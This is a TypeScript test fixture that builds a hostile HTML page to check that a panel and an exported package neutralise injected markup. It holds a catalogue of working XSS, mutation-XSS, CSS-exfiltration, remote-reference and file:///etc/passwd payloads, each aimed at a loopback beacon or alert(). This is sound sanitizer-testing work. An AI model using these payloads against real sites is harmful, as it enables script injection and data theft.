import { readFileSync } from 'node:fs';
import { THIRD_PARTY } from './shared';

/** Third-party payloads, read in place (never copied or edited): ../shared/fixtures/third-party/README.md. */
export const DOMPURIFY_PAYLOADS = `${THIRD_PARTY}/xss/domPurify-expect-payloads.json`;

export interface Payload {
  id: number;
  title: string;
  html: string;
}

/**
 * Our own additions: SVG, MathML, mutation XSS, CSS exfiltration and remote references. Every one that
 * could phone home points at `beacon` (a second loopback server that only counts), and every one that
 * could run script calls alert().
 */
function ownPayloads(beacon: string): Omit<Payload, 'id'>[] {
  const b = (n: string) => `${beacon}/beacon?p=${n}`;
  return [
    ['img onerror + remote src', `<img src="${b('img')}" onerror="alert('img')">`],
    ['svg onload', `<svg onload="alert('svg-onload')"><rect width="10" height="10"/></svg>`],
    ['svg script', `<svg><script>alert('svg-script');fetch('${b('svg-script')}')</script></svg>`],
    [
      'svg animate href',
      `<svg><a><animate attributeName="href" values="javascript:alert('animate')"/><text y="20">x</text></a></svg>`,
    ],
    ['svg set onbegin', `<svg><set attributeName="x" onbegin="alert('set')"/></svg>`],
    ['svg use remote', `<svg><use href="${b('svg-use')}#x"/></svg>`],
    ['svg image remote', `<svg><image href="${b('svg-image')}" width="10" height="10"/></svg>`],
    ['svg foreignObject', `<svg><foreignObject><img src="${b('fo')}" onerror="alert('fo')"></foreignObject></svg>`],
    ['svg xlink javascript', `<svg><a xlink:href="javascript:alert('xlink')"><text y="20">click</text></a></svg>`],
    ['svg style import', `<svg><style>@import url("${b('svg-style')}");</style></svg>`],
    [
      'svg feImage',
      `<svg><filter id="f"><feImage href="${b('feimage')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ],
    ['mathml href', `<math href="javascript:alert('math-href')"><mi>x</mi></math>`],
    ['mathml mglyph mXSS', `<math><mtext><table><mglyph><style><img src="${b('mglyph')}" onerror="alert('mglyph')">`],
    [
      'mathml annotation-xml',
      `<math><annotation-xml encoding="text/html"><img src="${b('anno')}" onerror="alert('anno')"></annotation-xml></math>`,
    ],
    [
      'mathml maction',
      `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert('maction')">x</maction></math>`,
    ],
    [
      'mXSS noscript title',
      `<noscript><p title="</noscript><img src='${b('noscript')}' onerror=alert('noscript')>"></p></noscript>`,
    ],
    [
      'mXSS form nesting',
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert('form-nest') src='${b('formnest')}'>">`,
    ],
    ['mXSS svg p style', `<svg></p><style><a id="</style><img src='${b('svgp')}' onerror=alert('svgp')>">`],
    [
      'mXSS template comment',
      `<template><s><a id="--!><img src='${b('tpl')}' onerror=alert('tpl')>"></a></s></template>`,
    ],
    ['mXSS xmp', `<xmp><p title="</xmp><img src='${b('xmp')}' onerror=alert('xmp')>"></xmp>`],
    ['mXSS backtick attr', '<img src="x` `<script>alert(\'backtick\')</script>"` `>'],
    ['mXSS textarea', `<textarea></textarea><img src="${b('textarea')}" onerror="alert('textarea')"></textarea>`],
    ['css background url', `<div style="background:url(${b('css-bg')})">bg</div>`],
    ['css image-set', `<div style="background-image:image-set('${b('css-imgset')}' 1x)">set</div>`],
    ['css escaped url', `<div style="background:u\\72l(${b('css-esc')})">esc</div>`],
    [
      'css style element attribute selector',
      `<style>input[value^="a"]{background:url(${b('css-attr')})}</style><input value="abc">`,
    ],
    ['css font-face', `<style>@font-face{font-family:x;src:url(${b('css-font')})}p{font-family:x}</style><p>font</p>`],
    ['css link stylesheet', `<link rel="stylesheet" href="${b('link')}">`],
    ['css import in style', `<style>@import "${b('css-import')}";</style>`],
    ['iframe remote', `<iframe src="${b('iframe')}"></iframe>`],
    ['iframe srcdoc', `<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>`],
    ['object data', `<object data="${b('object')}"></object>`],
    ['embed src', `<embed src="${b('embed')}">`],
    ['video poster', `<video poster="${b('poster')}"></video>`],
    ['audio src', `<audio src="${b('audio')}" onerror="alert('audio')"></audio>`],
    ['img srcset', `<img srcset="${b('srcset')} 1x">`],
    ['picture source', `<picture><source srcset="${b('source')}"><img alt="p"></picture>`],
    ['input image', `<input type="image" src="${b('input')}">`],
    ['table background', `<table background="${b('tablebg')}"><tr><td>t</td></tr></table>`],
    ['a ping', `<a href="#x" ping="${b('ping')}">ping</a>`],
    // Not <meta http-equiv=refresh>: it would navigate the live page itself (CSP does not stop it).
    ['base href', `<base href="${beacon}/base/">`],
    ['javascript link', `<a href="javascript:alert('js-link')">js</a>`],
    ['data html link', `<a href="data:text/html,<script>alert('data-link')</script>">data</a>`],
    ['details ontoggle', `<details open ontoggle="alert('toggle')"><summary>s</summary></details>`],
    ['body onload', `<body onload="alert('body')">`],
    ['dom clobbering', `<form name="getElementById"></form><img name="querySelector"><a id="defaultView"></a>`],
    ['custom element is', `<p is="x-evil" onclick="alert('is')">is</p>`],
    // Local files: a page opened from file:// (the exported package) must not load other local files.
    ['file: image', `<img src="file:///etc/hostname" onerror="alert('file-img')">`],
    ['file: stylesheet', `<link rel="stylesheet" href="file:///etc/passwd">`],
    ['file: iframe', `<iframe src="file:///etc/hosts"></iframe>`],
  ].map(([title, html]) => ({ title: `own: ${title}`, html: html! }));
}

export function allPayloads(beacon: string): Payload[] {
  const third = JSON.parse(readFileSync(DOMPURIFY_PAYLOADS, 'utf8')) as { title: string; payload: string }[];
  return [...third.map((p) => ({ title: p.title, html: p.payload })), ...ownPayloads(beacon)].map((p, id) => ({
    id,
    ...p,
  }));
}

const NONCE = 'hostile-page-nonce';

/**
 * The hostile page. Its CSP lets only its own (nonced) script run and allows no network at all, so the
 * payloads are live DOM that cannot fire while the page is open: anything that runs or loads later
 * happened in the panel or in the exported package. The script parses each payload into its own section
 * (so one payload's unclosed tags cannot swallow the next).
 */
export function hostilePage(payloads: Payload[]): { headers: Record<string, string>; body: string } {
  const data = JSON.stringify(payloads).replace(/</g, '\\u003c');
  const body = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hostile markup test page</title></head>
<body><main><h1>Hostile markup test page</h1><div id="payloads"></div></main>
<script nonce="${NONCE}" type="application/json" id="data">${data}</script>
<script nonce="${NONCE}">
  // Taken before any payload exists: payloads clobber document properties by name.
  const create = document.createElement.bind(document);
  const holder = document.getElementById('payloads');
  for (const p of JSON.parse(document.getElementById('data').textContent)) {
    const section = create('section');
    const heading = create('h2');
    heading.textContent = 'Payload ' + p.id + ' marker';
    const content = create('div');
    content.innerHTML = p.html;
    section.append(heading, content);
    holder.append(section);
  }
  window.hostilePageReady = true;
</script></body></html>`;
  return {
    headers: {
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy': `default-src 'none'; script-src 'nonce-${NONCE}'; style-src 'unsafe-inline'`,
    },
    body,
  };
}
